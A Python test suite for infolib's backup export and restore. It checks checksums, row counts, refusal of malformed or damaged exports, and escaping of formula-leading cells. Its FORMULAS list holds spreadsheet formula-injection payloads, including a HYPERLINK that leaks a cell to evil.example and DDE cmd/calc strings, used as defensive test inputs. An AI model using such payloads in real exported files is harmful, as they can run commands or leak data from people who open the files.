"""Backups a person can trust: an export is spreadsheet-safe and checksummed, a restore
refuses a truncated, changed or malformed export with a message naming the file, line and
column (never the personal data in it) and writes nothing."""

from __future__ import annotations

import csv
import filecmp
import hashlib
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from infolib import Workbook
from infolib.errors import DataError, InfolibError
from infolib.store import schema
from infolib.store.backup import export_workbook, restore_workbook
from tests.paths import ROOT

SECRETS = ("Secretname", "secret-private", "private remark", "Hiddenplace")
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "'=already quoted by someone", "''+twice", "'plain quote", "- a bullet point",
            "=", "'", "plain text"]


def infolib(*args):
    return subprocess.run([sys.executable, "-m", "infolib.cli", *args], capture_output=True,
                          text=True)


def people_book(folder: Path) -> Workbook:
    """A small workbook with personal data in it."""
    book = Workbook(folder)
    ada = book.contacts.add("Ada Secretname", organisation="Larkspur Grid Systems",
                           email="ada@secret-private.example",
                           notes="a private remark")
    ben = book.contacts.add("Ben Sample", organisation="Larkspur Grid Systems",
                           referred_by=ada, notes="met at the Hiddenplace meetup")
    book.log.add_outreach(ada, sent="2026-03-02", replied="2026-03-03")
    book.log.add_outreach(ben, sent="2026-03-05")
    book.log.add_meeting(ada, "2026-03-10 14:30", place="Hiddenplace café")
    return book


@pytest.fixture
def backup(tmp_path) -> Path:
    book = people_book(tmp_path / "wb")
    path = export_workbook(tmp_path / "backup", workbook=book)
    book.close()
    return path


def manifest(export: Path) -> dict:
    return json.loads((export / "manifest.json").read_text(encoding="utf-8"))


def save_manifest(export: Path, data: dict) -> None:
    (export / "manifest.json").write_text(json.dumps(data, indent=2), encoding="utf-8")


def rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def write_rows(path: Path, table: list[list[str]]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(table)


def reseal(export: Path) -> None:
    """Make the manifest's checksums match the files again, as if the export had been made so:
    what follows is then read and checked cell by cell."""
    data = manifest(export)
    data["sha256"] = {name: hashlib.sha256((export / name).read_bytes()).hexdigest()
                      for name in data["sha256"] if (export / name).exists()}
    save_manifest(export, data)


def as_old_export(export: Path) -> None:
    """An export made before checksums and spreadsheet-safe cells (row counts only)."""
    data = manifest(export)
    del data["sha256"], data["spreadsheet_safe"]
    save_manifest(export, data)


def assert_refused(done, *needles: str, new: Path) -> None:
    assert done.returncode == 2, (done.stdout, done.stderr)
    assert done.stderr.startswith("Error: ") and "Traceback" not in done.stderr, done.stderr
    for needle in needles:
        assert needle in done.stderr, (needle, done.stderr)
    for secret in SECRETS:
        assert secret not in done.stderr, (secret, done.stderr)
    assert not new.exists()  # nothing written, not even an empty workbook


# --- D9: row counts and checksums -------------------------------------------------------------------

def test_the_manifest_holds_each_files_row_count_and_checksum(backup):
    data = manifest(backup)
    assert data["rows"]["contacts"] == 2 and data["rows"]["outreach"] == 2
    for table in schema.metadata.sorted_tables:
        body = (backup / f"{table.name}.csv").read_bytes()
        assert data["sha256"][f"{table.name}.csv"] == hashlib.sha256(body).hexdigest()


def test_a_truncated_backup_is_refused_and_nothing_is_restored(backup, tmp_path):
    table = rows(backup / "contacts.csv")
    write_rows(backup / "contacts.csv", table[:-1])
    done = infolib("restore", str(backup), "--workbook", str(tmp_path / "new"))
    assert_refused(done, "contacts.csv", "checksum", new=tmp_path / "new")


def test_a_truncated_backup_without_checksums_is_refused_by_its_row_count(backup, tmp_path):
    as_old_export(backup)
    write_rows(backup / "contacts.csv", rows(backup / "contacts.csv")[:-1])
    done = infolib("restore", str(backup), "--workbook", str(tmp_path / "new"))
    assert_refused(done, "contacts.csv", "1 row", "manifest.json", "2", new=tmp_path / "new")


def test_a_changed_manifest_count_is_refused(backup, tmp_path):
    data = manifest(backup)
    data["rows"]["outreach"] = 5
    save_manifest(backup, data)
    done = infolib("restore", str(backup), "--workbook", str(tmp_path / "new"))
    assert_refused(done, "outreach.csv", "5", new=tmp_path / "new")


def test_an_export_made_before_checksums_still_restores(backup, tmp_path):
    as_old_export(backup)
    done = infolib("restore", str(backup), "--workbook", str(tmp_path / "new"))
    assert done.returncode == 0, done.stderr
    names = set(Workbook(tmp_path / "new").contacts.table()["name"])
    assert names == {"Ada Secretname", "Ben Sample"}


def as_schema_4_export(export: Path, tasks: int) -> None:
    """The export as infolib wrote it at schema 4, with its tasks table (``tasks`` rows)."""
    lines = ["id,contact_id,kind,due,done,note\n"] + [
        f"{n},1,call,2026-03-20,,\n" for n in range(1, tasks + 1)]
    (export / "tasks.csv").write_text("".join(lines), encoding="utf-8")
    data = manifest(export)
    data["schema_version"], data["revision"] = 4, "0004"
    data["rows"]["tasks"] = tasks
    save_manifest(export, data)
    reseal(export)
    data = manifest(export)
    data["sha256"]["tasks.csv"] = hashlib.sha256((export / "tasks.csv").read_bytes()).hexdigest()
    save_manifest(export, data)


@pytest.mark.parametrize("tasks", [0, 1])
def test_an_export_made_before_the_tasks_table_was_dropped_still_restores(backup, tmp_path,
                                                                         tasks, caplog):
    as_schema_4_export(backup, tasks)
    counts = restore_workbook(backup, workbook=tmp_path / "new")
    assert counts["contacts"] == 2 and "tasks" not in counts
    assert set(Workbook(tmp_path / "new").contacts.table()["name"]) == {"Ada Secretname",
                                                                     "Ben Sample"}
    said = [r.getMessage() for r in caplog.records if "tasks" in r.getMessage()]
    assert said == ([f"{backup / 'tasks.csv'} holds 1 row of the tasks table, which no version "
                     "of infolib wrote or showed and this one no longer has: left out."]
                    if tasks else [])


def test_a_changed_tasks_file_in_an_old_export_is_still_refused(backup, tmp_path):
    as_schema_4_export(backup, 0)
    (backup / "tasks.csv").write_text("id,contact_id,kind,due,done,note\n9,1,x,,,\n")
    done = infolib("restore", str(backup), "--workbook", str(tmp_path / "new"))
    assert_refused(done, "tasks.csv", "checksum", new=tmp_path / "new")


def test_a_tasks_file_in_a_new_export_is_refused(backup, tmp_path):
    data = manifest(backup)
    data["rows"]["tasks"] = 0
    save_manifest(backup, data)
    done = infolib("restore", str(backup), "--workbook", str(tmp_path / "new"))
    assert_refused(done, "'tasks'", "does not know", new=tmp_path / "new")


# --- D10: spreadsheet-safe cells ------------------------------------------------------------------

def formula_book(folder: Path) -> Workbook:
    book = Workbook(folder)
    ids = [book.contacts.add(f"Person {i}") for i in range(len(FORMULAS))]
    with book.writer.begin() as conn:  # as scraped text or an import could bring them in
        for contact, text in zip(ids, FORMULAS, strict=True):
            conn.execute(schema.contacts.update().where(schema.contacts.c.id == contact)
                         .values(notes=text, role=text))
    return book


def test_an_export_opens_in_a_spreadsheet_without_running_anything(tmp_path):
    book = formula_book(tmp_path / "wb")
    export = export_workbook(tmp_path / "backup", workbook=book)
    number = r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?"
    for path in export.glob("*.csv"):
        for line in rows(path):
            for cell in line:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or \
                    re.fullmatch(number, cell), (path.name, cell)
    table = rows(export / "contacts.csv")
    written = [r[table[0].index("notes")] for r in table[1:]]
    assert written == ["'" + t if t.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r") else t
                       for t in FORMULAS]
    assert written[0] == "'" + FORMULAS[0] and written[6] == "''=already quoted by someone"
    about = manifest(export)["spreadsheet_safe"]
    assert about["prefix"] == "'" and set(about["before"]) == {"=", "+", "-", "@", "\t", "\r"}
    readme = (ROOT / "README.md").read_text()
    assert "spreadsheet" in readme.split("## Your data", 1)[1].split("\n## ", 1)[0]


def test_escaped_cells_come_back_exactly_and_a_second_export_is_identical(tmp_path, store):
    book = formula_book(tmp_path / "wb")
    first = export_workbook(tmp_path / "first", workbook=book)
    restore_workbook(first, workbook=store)
    notes = store.contacts.table().sort_values("id")["notes"].tolist()
    assert notes == FORMULAS
    second = export_workbook(tmp_path / "second", workbook=store)
    names = sorted(p.name for p in first.iterdir())
    assert names == sorted(p.name for p in second.iterdir())
    _match, mismatch, errors = filecmp.cmpfiles(first, second, names, shallow=False)
    assert mismatch == [] and errors == []


# --- D17: malformed exports -------------------------------------------------------------------------

def edit_cell(export: Path, name: str, line: int, column: str, value: str) -> None:
    table = rows(export / name)
    table[line - 1][table[0].index(column)] = value
    write_rows(export / name, table)


def drop_column(export: Path, name: str, column: str) -> None:
    table = rows(export / name)
    at = table[0].index(column)
    write_rows(export / name, [r[:at] + r[at + 1:] for r in table])


def add_column(export: Path, name: str, column: str) -> None:
    table = rows(export / name)
    write_rows(export / name, [table[0] + [column]] +
               [r + ["Ada Secretname"] for r in table[1:]])


def with_row(export: Path, name: str, change) -> None:
    table = rows(export / name)
    table[1] = change(table[1])
    write_rows(export / name, table)


def replace_bytes(export: Path, name: str, old: bytes, new: bytes) -> None:
    body = (export / name).read_bytes()
    assert old in body
    (export / name).write_bytes(body.replace(old, new, 1))


MALFORMED = {
    "missing column": (lambda e: drop_column(e, "contacts.csv", "email"),
                       ["contacts.csv", "email", "missing"]),
    "extra column": (lambda e: add_column(e, "contacts.csv", "nickname"),
                     ["contacts.csv", "nickname"]),
    "a bad date": (lambda e: edit_cell(e, "outreach.csv", 2, "sent", "Ada Secretname"),
                   ["outreach.csv", "line 2", "sent", "date"]),
    "a bad date and time": (lambda e: edit_cell(e, "contacts.csv", 3, "created", "Secretname"),
                            ["contacts.csv", "line 3", "created"]),
    "an id that is no number": (lambda e: edit_cell(e, "contacts.csv", 2, "id", "Secretname"),
                                ["contacts.csv", "line 2", "id", "whole number"]),
    "an id in other digits": (lambda e: edit_cell(e, "contacts.csv", 2, "id", "²"),
                              ["contacts.csv", "line 2", "id", "whole number"]),
    "a row too long": (lambda e: with_row(e, "contacts.csv", lambda r: r + ["Secretname"]),
                       ["contacts.csv", "line 2", "cells"]),
    "a row too short": (lambda e: with_row(e, "contacts.csv", lambda r: r[:-2]),
                        ["contacts.csv", "line 2", "cells"]),
    "a NUL byte": (lambda e: edit_cell(e, "contacts.csv", 2, "notes", "a private\0remark"),
                   ["contacts.csv", "line 2", "notes", "NUL"]),
    "not UTF-8": (lambda e: replace_bytes(e, "contacts.csv", b"Secretname", b"Secr\xffname"),
                  ["contacts.csv", "line 2", "UTF-8"]),
    "an empty file": (lambda e: (e / "contacts.csv").write_bytes(b""),
                      ["contacts.csv", "header"]),
    "a duplicate id": (lambda e: with_row(e, "contacts.csv",
                                          lambda r: ["2"] + r[1:]),
                       ["contacts.csv"]),
    "a reference to nobody": (lambda e: edit_cell(e, "outreach.csv", 2, "contact_id", "99"),
                              ["outreach.csv"]),
}  # broken JSON: the people tables have no JSON column, see the research test below


@pytest.mark.parametrize("case", sorted(MALFORMED))
def test_a_malformed_export_is_refused_naming_file_line_and_column(backup, tmp_path, case):
    change, needles = MALFORMED[case]
    change(backup)
    reseal(backup)
    done = infolib("restore", str(backup), "--workbook", str(tmp_path / "new"))
    if case in ("a duplicate id", "a reference to nobody"):  # found by the database itself
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
        assert all(n in done.stderr for n in needles) and \
            not any(s in done.stderr for s in SECRETS), done.stderr
        assert Workbook(tmp_path / "new").contacts.table().empty
        return
    assert_refused(done, *needles, new=tmp_path / "new")


def test_a_missing_file_and_a_broken_manifest_are_refused(backup, tmp_path):
    new = tmp_path / "new"
    (backup / "contacts.csv").unlink()
    assert_refused(infolib("restore", str(backup), "--workbook", str(new)),
                   "contacts.csv", "missing", new=new)
    (backup / "manifest.json").write_text('{"rows": {"contacts": 2}, "who": "Ada Secretname')
    assert_refused(infolib("restore", str(backup), "--workbook", str(new)),
                   "manifest.json", "JSON", new=new)
    (backup / "manifest.json").write_text('["Ada Secretname"]')
    assert_refused(infolib("restore", str(backup), "--workbook", str(new)),
                   "manifest.json", new=new)


def test_broken_json_and_a_bad_flag_in_research_are_refused(demo_book, tmp_path):
    export = export_workbook(tmp_path / "backup", workbook=demo_book)
    new = tmp_path / "new"
    for column, value, needle in (("metadata", '{"author": "Ada Secretname', "JSON"),
                                  ("from_cache", "Secretname", "true or false"),
                                  ("words", "1e3", "whole number")):
        spoiled = tmp_path / f"spoiled-{column}"
        shutil.copytree(export, spoiled)
        edit_cell(spoiled, "pages.csv", 3, column, value)
        reseal(spoiled)
        assert_refused(infolib("restore", str(spoiled), "--workbook", str(new)),
                       "pages.csv", "(row 3)", column, needle, new=new)


# --- any damage at all ------------------------------------------------------------------------------

@st.composite
def damage(draw):
    kind = draw(st.sampled_from(["cut", "insert", "delete", "duplicate line", "swap"]))
    at = draw(st.floats(0, 1))
    text = draw(st.text(alphabet=st.sampled_from(list(',"\n\r\0\'=x7-:{}é\\')), max_size=12))
    return kind, at, text


def spoil(body: bytes, kind: str, at: float, text: str) -> bytes:
    cut = int(len(body) * at)
    if kind == "cut":
        return body[:cut]
    if kind == "insert":
        return body[:cut] + text.encode("utf-8") + body[cut:]
    if kind == "delete":
        return body[:cut] + body[cut + 1 + len(text):]
    lines = body.split(b"\n")
    at_line = int((len(lines) - 1) * at)
    if kind == "duplicate line":
        return b"\n".join(lines[:at_line + 1] + lines[at_line:])
    lines[at_line], lines[-1] = lines[-1], lines[at_line]
    return b"\n".join(lines)


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(["contacts.csv", "outreach.csv", "meetings.csv", "manifest.json"]),
       damage(), st.booleans())
def test_any_damage_is_restored_whole_or_refused_plainly(tmp_path_factory, name, how, sealed):
    base = tmp_path_factory.getbasetemp() / "damage"
    if not (base / "pristine").exists():
        book = people_book(base / "wb")
        export_workbook(base / "pristine", workbook=book)
        book.close()
    spoiled, new = base / "spoiled", base / "new"
    for folder in (spoiled, new):
        shutil.rmtree(folder, ignore_errors=True)
    shutil.copytree(base / "pristine", spoiled)
    (spoiled / name).write_bytes(spoil((spoiled / name).read_bytes(), *how))
    if sealed and name != "manifest.json":
        reseal(spoiled)
    try:
        restore_workbook(spoiled, workbook=new)
    except InfolibError as exc:
        assert isinstance(exc, DataError), exc
        message = str(exc)
        event("refused: " + ("checksum" if "checksum" in message else "line" if ", line " in
                             message else "other"))
        assert not any(secret in message for secret in SECRETS), message
        assert re.search(r"[a-z_]+\.csv|manifest\.json", message), message
        if new.exists():  # refused by the database: the restore was rolled back
            book = Workbook(new)
            with book.engine.connect() as conn:
                assert not conn.execute(sa.select(sa.func.count())
                                        .select_from(schema.contacts)).scalar()
            book.close()
    else:  # restored: what the export holds, whole
        event("restored")
        book = Workbook(new)
        assert len(book.contacts.table()) == manifest(spoiled)["rows"]["contacts"]
        book.close()


def test_a_cell_longer_than_the_csv_modules_default_limit_restores(tmp_path):
    book = Workbook(tmp_path / "wb")
    ada = book.contacts.add("Ada Example")
    long_text = "A page of scraped text. " * 20_000  # ~480 KB; csv reads 128 KiB by default
    with book.writer.begin() as conn:
        conn.execute(schema.contacts.update().where(schema.contacts.c.id == ada)
                     .values(notes=long_text))
    export = export_workbook(tmp_path / "backup", workbook=book)
    restore_workbook(export, workbook=tmp_path / "new")
    assert Workbook(tmp_path / "new").contacts.table()["notes"].tolist() == [long_text]
